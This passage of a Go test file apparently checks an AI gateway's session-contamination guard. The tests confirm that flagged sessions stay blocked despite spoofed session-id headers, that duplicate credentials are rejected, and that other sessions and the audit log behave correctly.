				"Mcp-Session-Id": clean, "X-Sallyport-Session": clean, "X-Session-Id": clean, "Session-Id": clean, "Conversation-Id": clean, "X-Claude-Code-Session-Id": clean, "Cookie": "session=" + cleanToken,
				"X-Sallyport-Token": cleanToken, "Proxy-Authorization": "Bearer " + cleanToken,
			})
			if code, _ := modelRefusal(t, answer); status != 403 || code != "flow.contaminated" || len(p.requests()) != before {
				t.Errorf("%s: it is not in its session any more: %d %s", form, status, answer)
			}
			for _, second := range []string{cleanToken, othersToken} { // two credentials are none
				status, answer = w.post(f.path, dirty, body, map[string]string{"X-Api-Key": second})
				if code, _ := modelRefusal(t, answer); status != 401 || code != "credential.missing" {
					t.Errorf("%s, two credentials: %d %s", form, status, answer)
				}
			}
		}
		if status, answer := w.post(f.path, cleanToken, fmt.Sprintf(f.body, "Hi."), map[string]string{"X-Session-Id": tainted}); status != 200 {
			t.Errorf("%s: the other session: %d %s", form, status, answer)
		}
	}
	for _, e := range w.entries() {
		if e.Session == clean && e.Code == "flow.contaminated" {
			t.Errorf("on record of the session that was named: %+v", e)
		}
	}
	w.sane()
}
